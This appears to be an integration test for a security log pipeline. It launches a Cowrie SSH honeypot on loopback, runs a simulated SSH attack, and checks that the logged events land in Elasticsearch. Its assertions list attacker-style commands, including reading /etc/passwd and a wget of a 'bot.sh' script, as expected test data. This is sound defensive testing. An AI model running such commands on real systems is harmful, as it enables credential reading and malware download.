import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, execFileSync, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, chmodSync, chownSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { loadConfig } from '../../src/config/index.ts';
import { connectElastic, type ElasticContext } from '../../src/elastic/connect.ts';
import { runBootstrap } from '../../src/bootstrap/index.ts';
import { SourcePipelines } from '../../src/ingest/source-pipelines.ts';
import { writeSourceEvents } from '../../src/ingest/bulk-writer.ts';
import { defaultNyxHome, freePort } from '../../src/elastic/local-node.ts';
import { testElasticUrl, uniqueNamespace } from '../support/elastic.ts';

// A real Cowrie honeypot (PyPI `cowrie`, installed by .ci/run into <NYX_HOME>/cowrie-venv), attacked over
// SSH by paramiko on loopback; its own JSON log goes through the cowrie pipeline into logs-cowrie-<ns>.

const venv = process.env.NYX_COWRIE_VENV ?? join(defaultNyxHome(), 'cowrie-venv');
const cowrieBin = join(venv, 'bin', 'cowrie');
const python = join(venv, 'bin', 'python');
const attackScript = fileURLToPath(new URL('../support/ssh-attack.py', import.meta.url));
const skip = existsSync(cowrieBin) ? false : `Cowrie is not installed at ${venv} (.ci/run installs it)`;

let cowrie: ChildProcess | undefined;
let workDir = '';
let port = 0;

function asUnprivileged(): { uid: number; gid: number } | undefined {
  if (process.getuid?.() !== 0) return undefined;
  return { uid: Number(execFileSync('id', ['-u', 'nobody']).toString().trim()), gid: Number(execFileSync('id', ['-g', 'nobody']).toString().trim()) };
}

before(async () => {
  if (skip) return;
  // Cowrie refuses to run as root: it gets a world-reachable work dir and runs as `nobody`.
  workDir = mkdtempSync('/tmp/nyx-cowrie-');
  chmodSync(workDir, 0o755);
  const owner = asUnprivileged();
  if (owner) chownSync(workDir, owner.uid, owner.gid);
  const env = { HOME: workDir, PATH: `${join(venv, 'bin')}:/usr/bin:/bin` };
  execFileSync(cowrieBin, ['init'], { cwd: workDir, env, ...(owner ?? {}) });
  port = await freePort();
  cowrie = spawn(cowrieBin, ['start'], {
    cwd: workDir,
    env: { ...env, COWRIE_STDOUT: 'yes', COWRIE_SSH_LISTEN_ENDPOINTS: `tcp:${port}:interface=127.0.0.1`, COWRIE_HONEYPOT_HOSTNAME: 'nyxpot' },
    stdio: ['ignore', 'pipe', 'pipe'],
    ...(owner ?? {}),
  });
  let out = '';
  cowrie.stdout!.on('data', (d) => (out += d));
  cowrie.stderr!.on('data', (d) => (out += d));
  const deadline = Date.now() + 60_000;
  while (!out.includes('Ready to accept SSH connections')) {
    if (Date.now() > deadline || cowrie.exitCode !== null) throw new Error(`Cowrie did not start:\n${out.slice(-2000)}`);
    await new Promise((r) => setTimeout(r, 200));
  }
});

after(() => {
  cowrie?.kill('SIGTERM');
});

test('a real SSH attack on Cowrie lands in logs-cowrie-<ns> as ECS', { skip }, async () => {
  const attack = execFileSync(python, [attackScript, String(port)], { encoding: 'utf8', timeout: 120_000 });
  assert.match(attack, /denied root/);
  assert.match(attack, /ok admin/);

  const logFile = join(workDir, 'var', 'log', 'cowrie', 'cowrie.json');
  // Cowrie writes session.closed as the client goes: wait (bounded) until the last session closed.
  const deadline = Date.now() + 30_000;
  let lines: string[] = [];
  while (Date.now() < deadline) {
    lines = existsSync(logFile) ? readFileSync(logFile, 'utf8').split('\n').filter(Boolean) : [];
    if (lines.filter((l) => l.includes('"cowrie.session.closed"')).length >= 3) break;
    await new Promise((r) => setTimeout(r, 250));
  }
  assert.ok(lines.length >= 10, `Cowrie logged ${lines.length} lines`);

  const { config, secrets } = loadConfig({ env: { ELASTICSEARCH_URL: testElasticUrl() } });
  const ctx: ElasticContext = await connectElastic(config, secrets);
  await runBootstrap(ctx, config);
  const pipelines = SourcePipelines.create(config, ctx.caps);
  const ns = uniqueNamespace('cowrie');
  // As Filebeat reads cowrie.json: one JSON line in `message`.
  const report = await writeSourceEvents(ctx.client, pipelines, { source: 'cowrie', namespace: ns, events: lines.map((message) => ({ doc: { message } })), refresh: 'wait_for' });
  assert.equal(report.indexed, lines.length);
  assert.equal(report.pipelineErrors, 0, 'every real Cowrie line normalises cleanly');

  const res = await ctx.client.search<Record<string, any>>({ index: `logs-cowrie-${ns}`, size: 100, sort: [{ '@timestamp': 'asc' }] });
  const docs = res.hits.hits.map((h) => h._source!);
  const byAction = (a: string) => docs.filter((d) => d.event?.action === a);

  const failed = byAction('cowrie.login.failed');
  assert.equal(failed.length, 2);
  for (const d of failed) {
    assert.equal(d.event.outcome, 'failure');
    assert.equal(d.user.name, 'root');
    assert.equal(d.source.ip, '127.0.0.1');
    assert.ok([d.event.category].flat().includes('authentication'));
  }
  const success = byAction('cowrie.login.success');
  assert.equal(success.length, 1);
  assert.equal(success[0]!.user.name, 'admin');
  assert.equal(success[0]!.event.outcome, 'success');

  // The attacker's closing `exit` is logged too when Cowrie reads it before the channel closes.
  const commands = byAction('cowrie.command.input').map((d) => d.process?.command_line).filter((c) => c !== 'exit');
  assert.deepEqual(commands.sort(), ['cat /etc/passwd', 'uname -a', 'wget http://127.0.0.1:9/bot.sh'].sort());
  assert.equal(byAction('cowrie.session.connect').length, 3);
  for (const d of docs) {
    assert.equal(d.destination?.port, port, 'destination.port is the honeypot port');
    assert.ok(d.event.original, 'the raw Cowrie line is kept');
  }
});
